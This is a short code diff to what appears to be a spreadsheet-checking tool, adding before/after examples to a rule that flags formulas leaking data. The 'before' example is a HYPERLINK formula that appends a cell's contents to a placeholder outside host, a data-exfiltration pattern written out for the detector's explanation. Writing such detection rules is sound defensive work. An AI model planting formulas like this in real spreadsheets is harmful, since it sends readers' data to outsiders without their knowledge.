@@ -23,6 +23,8 @@ from ..rules import leak
     ),
     why="Opening the file would run the formula on the reader's machine.",
     cure="Replace the formula by its value, or put an apostrophe before a text that only looks like one",
+    before="A cell holds `=HYPERLINK(\"http://elsewhere.example/\"&A2)`, which runs when somebody opens the table.",
+    after="The cell holds the value that the formula gave.",
 )
 def check(opened: Opened) -> Iterator[Hit]:
     for number, row in enumerate(opened.table, 1):
